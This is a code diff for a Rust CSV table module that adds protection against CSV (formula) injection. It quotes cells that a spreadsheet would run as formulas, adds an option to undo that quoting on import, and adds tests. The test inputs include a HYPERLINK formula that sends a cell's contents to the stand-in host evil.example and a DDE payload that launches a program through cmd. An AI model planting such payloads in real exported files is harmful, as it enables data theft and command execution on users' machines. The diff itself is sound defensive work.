@@ -54,6 +54,46 @@ pub const MISSING_ANSWERS: &[&str] = &[
     "don\u{2019}t know",
 ];
 
+/// The first characters that make a spreadsheet program read a CSV cell as a formula (OWASP,
+/// "CSV injection"): `=`, `+`, `-`, `@`, tab and carriage return.
+pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether [`restore_formula`] would take a quote off `cell`: it starts with a single quote
+/// followed by a formula start or another quote.
+fn is_neutralised(cell: &str) -> bool {
+    cell.strip_prefix('\'')
+        .and_then(|rest| rest.chars().next())
+        .is_some_and(|c| c == '\'' || FORMULA_STARTS.contains(&c))
+}
+
+/// A cell as a CSV export writes it: a cell that a spreadsheet would run as a formula gets a
+/// single quote in front (`=HYPERLINK(…)` → `'=HYPERLINK(…)`, shown as text), and so does a
+/// cell that already starts with a quote followed by a formula start or a quote (`'=x` →
+/// `''=x`), so that [`restore_formula`] gives back exactly what was written. Every other cell
+/// is unchanged.
+pub fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
+    let starts_formula = cell
+        .chars()
+        .next()
+        .is_some_and(|c| FORMULA_STARTS.contains(&c));
+    if starts_formula || is_neutralised(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// A cell as a CSV import reads it: the quote [`neutralise_formula`] put in front is taken off
+/// (`'=HYPERLINK(…)` → `=HYPERLINK(…)`, `''=x` → `'=x`); a cell whose quote is followed by
+/// anything else (`'tis`) is unchanged.
+pub fn restore_formula(cell: &str) -> &str {
+    if is_neutralised(cell) {
+        &cell[1..]
+    } else {
+        cell
+    }
+}
+
 /// Whether a cell is missing: empty or whitespace only.
 pub fn is_missing(cell: &str) -> bool {
     cell.trim().is_empty()
@@ -297,6 +337,7 @@ pub struct TextTable<R: Read> {
     header: Header,
     record: csv::StringRecord,
     raw: bool,
+    restore_formulas: bool,
 }
 
 impl<R: Read> TextTable<R> {
@@ -335,6 +376,7 @@ impl<R: Read> TextTable<R> {
             header,
             record: csv::StringRecord::new(),
             raw: false,
+            restore_formulas: false,
         })
     }
 
@@ -349,6 +391,14 @@ impl<R: Read> TextTable<R> {
     #[must_use]
     pub fn raw(mut self) -> Self {
         self.raw = true;
+        self
+    }
+
+    /// Takes off the quote a CSV export put in front of cells a spreadsheet would run as
+    /// formulas (see [`restore_formula`]), for files that Framewright's CSV exports wrote.
+    #[must_use]
+    pub fn restore_formulas(mut self) -> Self {
+        self.restore_formulas = true;
         self
     }
 
@@ -374,6 +424,9 @@ impl<R: Read> TextTable<R> {
             }
         }
         let line = self.record_line();
+        if self.restore_formulas && self.record.iter().any(is_neutralised) {
+            self.record = self.record.iter().map(restore_formula).collect();
+        }
         let expected = self.header.names.len();
         if !self.raw && self.record.len() != expected {
             return Err(TableError::new(
@@ -546,6 +599,49 @@ impl<'b> TextTable<&'b [u8]> {
 mod tests {
     #![allow(clippy::unwrap_used)]
     use super::*;
+
+    #[test]
+    fn formula_cells_are_neutralised_and_restored_exactly() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-1",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "'=already quoted",
+            "''",
+            "'''x",
+            "'tis",
+            "'",
+            "plain",
+            "",
+        ] {
+            let written = neutralise_formula(cell);
+            assert!(
+                !written.starts_with(FORMULA_STARTS),
+                "{cell:?} was written as {written:?}"
+            );
+            assert_eq!(restore_formula(&written), cell, "{cell:?}");
+        }
+        assert_eq!(neutralise_formula("=1"), "'=1");
+        assert_eq!(neutralise_formula("'=1"), "''=1");
+        assert_eq!(neutralise_formula("'tis"), "'tis");
+        assert_eq!(restore_formula("'tis"), "'tis");
+    }
+
+    #[test]
+    fn csv_tables_restore_neutralised_cells_only_when_asked() {
+        let text = b"id,name\na,'=1\n";
+        let mut plain = TextTable::from_csv_bytes("a.csv", text).unwrap();
+        assert_eq!(plain.next_row().unwrap().unwrap().cell(1), "'=1");
+        let mut restored = TextTable::from_csv_bytes("a.csv", text)
+            .unwrap()
+            .restore_formulas();
+        let row = restored.next_row().unwrap().unwrap();
+        assert_eq!(row.cell(1), "=1");
+        assert_eq!(row.line, 2);
+    }
 
     #[test]
     fn missing_is_blank_and_answers_know_the_markers() {
